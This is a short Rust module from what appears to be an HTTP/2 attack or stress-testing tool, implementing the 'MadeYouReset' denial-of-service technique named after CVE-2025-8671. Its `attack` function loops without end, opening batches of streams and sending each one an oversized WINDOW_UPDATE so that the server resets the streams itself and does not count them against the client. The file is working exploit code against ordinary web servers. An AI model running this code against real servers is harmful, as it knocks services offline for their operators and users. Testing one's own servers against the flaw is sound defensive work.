//! `MadeYouReset`: streams are opened and then broken, so that the server resets them itself and does not
//! count them as the client's resets (CVE-2025-8671).

use super::frames;
use super::ground::Ground;
use super::http2::{BATCH, on_connection};

/// More than a window may be (RFC 9113, section 6.9.1): the stream has to be reset.
const TOO_MUCH: u32 = 0x7fff_ffff;

pub(super) async fn attack(ground: &Ground<'_>) {
    on_connection(ground, &[], async |connection| {
        loop {
            let streams = connection.leave(BATCH).await?;
            for _ in 0..streams {
                let stream = connection.put_upload();
                frames::put_window_update(&mut connection.output, stream, TOO_MUCH);
            }
            connection.send(streams).await?;
        }
    })
    .await;
}
